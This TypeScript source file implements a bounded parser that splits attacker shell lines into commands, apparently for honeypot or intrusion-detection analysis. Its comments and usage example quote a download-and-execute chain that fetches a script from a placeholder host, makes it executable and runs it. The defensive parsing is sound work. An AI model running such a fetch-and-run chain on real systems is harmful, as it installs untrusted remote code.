/**
 * A small, bounded reader of attacker shell lines: enough of POSIX sh to find the commands in
 * `cd /tmp; wget http://x/a.sh && chmod +x a.sh && ./a.sh`, not an interpreter. Quotes and backslashes are
 * honoured; an unbalanced quote runs to the end of the line (as an attacker's typo would leave it).
 */

/** Lines longer than this are cut before reading; the event schema already bounds commands to 64 KiB. */
export const SHELL_MAX_LINE = 65_536;
/** At most this many commands are read from one line, and this many words from one command. */
export const SHELL_MAX_COMMANDS = 512;
export const SHELL_MAX_WORDS = 256;
/** `sh -c '…'` inside `bash -c "…"` is read this deep. */
const MAX_NESTING = 2;

/** One simple command of a line. */
export interface ShellCommand {
  /** The command as written, trimmed. */
  text: string;
  /** Words after quote removal; leading `VAR=value` assignments and wrappers (sudo, busybox, nohup) removed. */
  argv: string[];
  /** Lower-case base name of the program, e.g. `wget` for `/usr/bin/wget`; `./x` keeps its path. */
  name: string;
  /** The words after the program, joined by single spaces: what argument patterns are matched against. */
  args: string;
  /** Run through `busybox` (Mirai and its kin do this). */
  busybox: boolean;
}

const SEPARATORS = new Set([';', '&', '|', '\n', '\r']);
const WRAPPERS = new Set(['sudo', 'nohup', 'busybox', 'env', 'exec', 'time', 'nice', 'command', 'builtin']);

/** Splits a line into commands on `;`, `&&`, `||`, `|`, `&` and newlines outside quotes. */
function splitLine(line: string): string[] {
  const parts: string[] = [];
  let current = '';
  let quote: '"' | "'" | '' = '';
  for (let i = 0; i < line.length && parts.length < SHELL_MAX_COMMANDS; i++) {
    const c = line[i] as string;
    if (quote) {
      current += c;
      if (c === '\\' && quote === '"' && i + 1 < line.length) current += line[++i] as string;
      else if (c === quote) quote = '';
    } else if (c === '\\' && i + 1 < line.length) {
      current += c + (line[++i] as string);
    } else if (c === '"' || c === "'") {
      quote = c;
      current += c;
    } else if (c === '&' && (line[i - 1] === '>' || line[i + 1] === '>')) {
      current += c; // a redirection such as 2>&1 or &>, not a separator
    } else if (SEPARATORS.has(c)) {
      parts.push(current);
      current = '';
    } else {
      current += c;
    }
  }
  if (parts.length < SHELL_MAX_COMMANDS) parts.push(current);
  return parts.map((part) => part.trim()).filter((part) => part !== '');
}

/** Splits one command into words, removing quotes; `>`, `>>` and `<` become words of their own. */
function words(command: string): string[] {
  const out: string[] = [];
  let word = '';
  let inWord = false;
  let quote: '"' | "'" | '' = '';
  const push = (): void => {
    if (inWord && out.length < SHELL_MAX_WORDS) out.push(word);
    word = '';
    inWord = false;
  };
  for (let i = 0; i < command.length; i++) {
    const c = command[i] as string;
    if (quote === "'") {
      if (c === "'") quote = '';
      else word += c;
    } else if (quote === '"') {
      if (c === '"') quote = '';
      else if (c === '\\' && i + 1 < command.length) word += command[++i] as string;
      else word += c;
    } else if (c === "'" || c === '"') {
      quote = c;
      inWord = true;
    } else if (c === '\\' && i + 1 < command.length) {
      word += command[++i] as string;
      inWord = true;
    } else if (c === ' ' || c === '\t' || c === '\0') {
      push();
    } else if (c === '>' || c === '<') {
      push();
      const double = command[i + 1] === '>';
      if (double) i++;
      out.push(double ? '>>' : c);
    } else {
      word += c;
      inWord = true;
    }
  }
  push();
  return out;
}

function baseName(program: string): string {
  if (program.startsWith('./')) return program.toLowerCase();
  const slash = program.lastIndexOf('/');
  return (slash >= 0 ? program.slice(slash + 1) : program).toLowerCase();
}

function toCommand(text: string): ShellCommand | undefined {
  let argv = words(text);
  let busybox = false;
  // Leading assignments (PATH=…) and wrappers do not change which program runs.
  while (argv.length > 0) {
    const first = argv[0] as string;
    if (/^[A-Za-z_][A-Za-z0-9_]*=/.test(first)) argv = argv.slice(1);
    else if (WRAPPERS.has(baseName(first)) && argv.length > 1) {
      if (baseName(first) === 'busybox') busybox = true;
      argv = argv.slice(1);
    } else break;
  }
  const program = argv[0];
  if (program === undefined || program.startsWith('#')) return undefined;
  if (program === 'busybox' || program.endsWith('/busybox')) busybox = true;
  return { text, argv, name: baseName(program), args: argv.slice(1).join(' '), busybox };
}

/**
 * Reads a shell line into its simple commands, in order; `sh -c '…'`, `bash -c "…"` are read into too.
 * Comment commands (`#!/bin/sh`) are skipped. Linear in the line's length, and never throws.
 * @example parseShellLine('cd /tmp; wget http://x/a.sh && ./a.sh').map((c) => c.name) // ['cd', 'wget', './a.sh']
 */
export function parseShellLine(line: string, depth = 0): ShellCommand[] {
  const commands: ShellCommand[] = [];
  for (const part of splitLine(line.slice(0, SHELL_MAX_LINE))) {
    const command = toCommand(part);
    if (command === undefined) continue;
    commands.push(command);
    const script = command.argv[command.argv.indexOf('-c') + 1];
    if (depth < MAX_NESTING && /^(ba|da|z|k)?sh$/.test(command.name) && command.argv.includes('-c') && script) {
      commands.push(...parseShellLine(script, depth + 1));
    }
    if (commands.length >= SHELL_MAX_COMMANDS) break;
  }
  return commands.slice(0, SHELL_MAX_COMMANDS);
}
